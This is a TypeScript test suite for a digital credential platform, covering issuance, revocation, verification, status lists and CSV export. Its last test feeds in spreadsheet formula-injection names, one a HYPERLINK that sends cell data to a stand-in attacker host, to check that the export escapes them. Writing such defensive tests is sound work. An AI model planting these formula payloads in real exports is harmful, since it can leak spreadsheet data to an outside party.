import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import { eq } from 'drizzle-orm'
import { newOrg, uniqueEmail } from '../../../../test/support/factories.ts'
import { startTestApp, type TestApp, textOf } from '../../../../test/support/harness.ts'
import { pngOfSize } from '../../../../test/support/images.ts'
import { eraseSubject } from '../../../platform/privacy/registry.ts'
import type { OrgScope } from '../../orgs/service.ts'
import { createAchievement } from '../achievements.ts'
import { checkImage } from '../images/images.ts'
import { verifyById, verifyDocument } from '../public/verification.ts'
import { statusLists } from '../schema.ts'
import { validateOb3Schema } from '../signing/verify.ts'
import { reinstateCredential, revokeCredential, suspendCredential } from '../status.ts'
import { issueCredential } from './issuance.ts'

let testApp: TestApp
let scope: OrgScope
let achievementId: string
let ownerLogin: { email: string; password: string }

before(async () => {
  testApp = await startTestApp()
  const { org, owner } = await newOrg(testApp, 'Northwind Certification Board')
  scope = { orgId: org.id, accountId: owner.account.id, role: 'owner' }
  ownerLogin = owner
  const achievement = await createAchievement(testApp.platform, scope, {
    name: 'Certified Safety Officer',
    description: 'Knows the site safety rules.',
    criteria: 'Pass the **safety** exam.',
    tags: ['safety'],
    alignments: [{ targetName: 'ISO 45001', targetUrl: 'https://www.iso.org/standard/63787.html' }],
    validityMonths: 24,
    image: checkImage(pngOfSize(200, 200)),
  })
  achievementId = achievement.id
})
after(() => testApp.close())

describe('issuing an Open Badges 3.0 credential', () => {
  it('signs a schema-valid OpenBadgeCredential with status entries and a hashed email', async () => {
    const email = uniqueEmail('holder')
    const { credential, isNew } = await issueCredential(testApp.platform, scope, {
      achievementId,
      recipientEmail: email,
      recipientName: 'Zoë Ångström-Łukasiewicz',
    })
    assert.equal(isNew, true)
    const document = credential.document as Record<string, unknown>
    assert.deepEqual(document.type, ['VerifiableCredential', 'OpenBadgeCredential'])
    assert.ok(!JSON.stringify(document).includes(email), 'the email appears only hashed')
    assert.equal((document.credentialStatus as { statusPurpose: string }).statusPurpose, 'revocation', 'OB 3.0 allows one status entry')
    assert.equal((document.proof as { cryptosuite: string }[])[0]?.cryptosuite, 'eddsa-rdfc-2022')
    assert.ok(document.validUntil, 'a 24-month achievement expires')
    assert.deepEqual(validateOb3Schema(document).errors, [])
    const report = await verifyDocument(testApp.platform, document)
    assert.equal(report.verdict, 'valid', JSON.stringify(report.checks))
  })

  it('issues once per idempotency key', async () => {
    const input = { achievementId, recipientEmail: uniqueEmail(), recipientName: 'Repeat Request', idempotencyKey: 'request-42' }
    const first = await issueCredential(testApp.platform, scope, input)
    const second = await issueCredential(testApp.platform, scope, input)
    assert.equal(second.isNew, false)
    assert.equal(second.credential.id, first.credential.id)
  })

  it('revokes, suspends and reinstates, and verification follows at once', async () => {
    const revoked = (await issueCredential(testApp.platform, scope, { achievementId, recipientEmail: uniqueEmail(), recipientName: 'To Revoke' })).credential
    await revokeCredential(testApp.platform, scope, revoked.id, 'Exam result annulled')
    assert.equal((await verifyDocument(testApp.platform, revoked.document)).verdict, 'revoked')
    await assert.rejects(revokeCredential(testApp.platform, scope, revoked.id, 'again'), /already revoked/)

    const suspended = (await issueCredential(testApp.platform, scope, { achievementId, recipientEmail: uniqueEmail(), recipientName: 'To Suspend' })).credential
    await suspendCredential(testApp.platform, scope, suspended.id)
    assert.equal((await verifyDocument(testApp.platform, suspended.document)).verdict, 'suspended')
    await reinstateCredential(testApp.platform, scope, suspended.id)
    assert.equal((await verifyDocument(testApp.platform, suspended.document)).verdict, 'valid')
  })

  it('verifies by ID from a remembered read, yet shows a revocation, suspension, reinstatement or erasure at once', async () => {
    const verdictOf = async (id: string) => (await verifyById(testApp.platform, id))?.report.verdict
    const issue = async (recipientEmail: string) =>
      (await issueCredential(testApp.platform, scope, { achievementId, recipientEmail, recipientName: 'Remembered Holder' })).credential
    const first = await issue(uniqueEmail())
    // Another credential on the same revocation list, read (and remembered) before the first is revoked.
    const neighbour = await issue(uniqueEmail())
    assert.equal(await verdictOf(first.id), 'valid')
    assert.equal(await verdictOf(neighbour.id), 'valid')
    await revokeCredential(testApp.platform, scope, first.id, 'Exam result annulled')
    assert.equal(await verdictOf(first.id), 'revoked')
    assert.equal(await verdictOf(neighbour.id), 'valid')

    await suspendCredential(testApp.platform, scope, neighbour.id)
    assert.equal(await verdictOf(neighbour.id), 'suspended')
    await reinstateCredential(testApp.platform, scope, neighbour.id)
    assert.equal(await verdictOf(neighbour.id), 'valid')

    const email = uniqueEmail()
    const erased = await issue(email)
    assert.equal(await verdictOf(erased.id), 'valid')
    await eraseSubject(testApp.platform.db, testApp.platform.memo, testApp.platform.privacyProviders, { accountId: null, email })
    assert.equal(await verdictOf(erased.id), 'valid', 'an erased holder’s credential keeps its verification record')
  })

  it('gives each credential its own random slot, and opens a new status list when one is full', async () => {
    const { org, owner } = await newOrg(testApp, 'Tiny Lists Board')
    const tinyScope: OrgScope = { orgId: org.id, accountId: owner.account.id, role: 'owner' }
    const achievement = await createAchievement(testApp.platform, tinyScope, {
      name: 'Small Badge',
      description: 'For a test of full lists.',
      criteria: 'None.',
      tags: [],
      alignments: [],
      validityMonths: null,
      image: checkImage(pngOfSize(200, 200)),
    })
    const issueOne = async () =>
      (await issueCredential(testApp.platform, tinyScope, { achievementId: achievement.id, recipientEmail: uniqueEmail(), recipientName: 'Slot Holder' }))
        .credential
    const first = await issueOne()
    // Lists of six slots: the first fills (drawn at random while mostly empty, then from what is left), then a second opens.
    await testApp.platform.db.update(statusLists).set({ size: 6 }).where(eq(statusLists.orgId, org.id))
    const issued = [first]
    for (let i = 0; i < 7; i++) issued.push(await issueOne())
    for (const [listOf, indexOf] of [
      [(row: typeof first) => row.revocationListId, (row: typeof first) => row.revocationIndex],
      [(row: typeof first) => row.suspensionListId, (row: typeof first) => row.suspensionIndex],
    ] as const) {
      const slots = issued.map((row) => `${listOf(row)}#${indexOf(row)}`)
      assert.equal(new Set(slots).size, issued.length, 'no slot is given twice')
      const inFirstList = issued.filter((row) => listOf(row) === listOf(first))
      assert.equal(inFirstList.length, 6)
      assert.ok(inFirstList.every((row) => row === first || indexOf(row) < 6))
      assert.equal(new Set(issued.filter((row) => listOf(row) !== listOf(first)).map(listOf)).size, 1, 'the rest share one new list')
    }
  })

  it('fails the signature after one changed character', async () => {
    const { credential } = await issueCredential(testApp.platform, scope, { achievementId, recipientEmail: uniqueEmail(), recipientName: 'Honest Holder' })
    const tampered = JSON.parse(JSON.stringify(credential.document).replace('Honest Holder', 'Honest Holdes'))
    const report = await verifyDocument(testApp.platform, tampered)
    assert.equal(report.verdict, 'invalid_signature')
  })

  it('shows the public page with status in words, QR code and JSON download, and noindex', async () => {
    const { credential } = await issueCredential(testApp.platform, scope, { achievementId, recipientEmail: uniqueEmail(), recipientName: '李小龍' })
    const client = testApp.client()
    const page = await client.get(`/credentials/${credential.id}`)
    assert.equal(page.statusCode, 200)
    assert.equal(page.headers['x-robots-tag'], 'noindex')
    const text = textOf(page.body)
    assert.match(text, /This credential is valid/)
    assert.match(text, /李小龍/)
    assert.match(text, /Certified Safety Officer/)
    assert.match(page.body, /alt="QR code linking to http:\/\/laurel\.test\/credentials\/cred_/)
    const json = await client.get(`/credentials/${credential.id}.json`)
    assert.equal(json.statusCode, 200)
    assert.deepEqual(JSON.parse(json.body), credential.document)

    await revokeCredential(testApp.platform, scope, credential.id, 'Issued by mistake')
    assert.match(textOf((await client.get(`/credentials/${credential.id}`)).body), /revoked by its issuer.*Issued by mistake/)
  })

  it('serves status lists with no-cache and an ETag, answering 304 when unchanged', async () => {
    const { credential } = await issueCredential(testApp.platform, scope, { achievementId, recipientEmail: uniqueEmail(), recipientName: 'Cache Check' })
    const url = new URL((credential.document.credentialStatus as { statusListCredential: string }).statusListCredential)
    const first = await testApp.app.inject({ url: url.pathname })
    assert.equal(first.statusCode, 200)
    assert.match(String(first.headers['cache-control']), /no-cache/)
    const again = await testApp.app.inject({ url: url.pathname, headers: { 'if-none-match': String(first.headers.etag) } })
    assert.equal(again.statusCode, 304)
    await revokeCredential(testApp.platform, scope, credential.id, 'Changed')
    const changed = await testApp.app.inject({ url: url.pathname, headers: { 'if-none-match': String(first.headers.etag) } })
    assert.equal(changed.statusCode, 200, 'a revocation changes the list at once')
  })

  it('verifies on /verify by ID and by uploaded file, showing each check', async () => {
    const { credential } = await issueCredential(testApp.platform, scope, { achievementId, recipientEmail: uniqueEmail(), recipientName: 'Verify Me' })
    const client = testApp.client()
    const byId = await client.get(`/verify?id=${credential.id}`)
    assert.match(byId.body, /data-verdict="valid"/)
    for (const check of ['signature', 'issuer', 'status', 'validity', 'schema']) assert.match(byId.body, new RegExp(`data-check="${check}" data-ok="true"`))
    const boundary = 'laurelboundary'
    await client.get('/verify')
    const csrf = /name="_csrf" value="([^"]+)"/.exec((await client.get('/verify')).body)?.[1] ?? ''
    const tampered = JSON.stringify(credential.document).replace('Verify Me', 'Verify Mf')
    const payload = [
      `--${boundary}\r\nContent-Disposition: form-data; name="_csrf"\r\n\r\n${csrf}\r\n`,
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="credential.json"\r\nContent-Type: application/json\r\n\r\n${tampered}\r\n`,
      `--${boundary}--\r\n`,
    ].join('')
    const upload = await client.request({ method: 'POST', url: '/verify', headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, payload })
    assert.equal(upload.statusCode, 200)
    assert.match(upload.body, /data-verdict="invalid_signature"/)
    assert.match(upload.body, /data-check="signature" data-ok="false"/)
  })

  it('lists, filters and exports issued credentials for staff', async () => {
    const client = testApp.client()
    await client.signIn(ownerLogin.email, ownerLogin.password)
    const list = await client.get(`/orgs/${scope.orgId}/credentials?status=revoked`)
    assert.equal(list.statusCode, 200)
    assert.match(textOf(list.body), /To Revoke/)
    assert.doesNotMatch(textOf(list.body), /Honest Holder/)
    const csv = await client.get(`/orgs/${scope.orgId}/credentials/export.csv?search=Honest`)
    assert.equal(csv.headers['content-type'], 'text/csv; charset=utf-8')
    assert.match(csv.body, /^id,url,recipient_name/)
    assert.match(csv.body, /Honest Holder/)
    assert.equal(csv.body.trim().split('\n').length, 2)
  })

  it('exports recipient names that look like spreadsheet formulas as plain text', async () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1+1)', '-2+3', '@SUM(1)']
    for (const recipientName of names) await issueCredential(testApp.platform, scope, { achievementId, recipientEmail: uniqueEmail('formula'), recipientName })
    const client = testApp.client()
    await client.signIn(ownerLogin.email, ownerLogin.password)
    const csv = await client.get(`/orgs/${scope.orgId}/credentials/export.csv?search=formula.`)
    const exported = (parse(csv.body, { columns: true }) as { recipient_name: string }[]).map((row) => row.recipient_name)
    assert.deepEqual(exported.sort(), names.map((name) => `'${name}`).sort())
  })
})
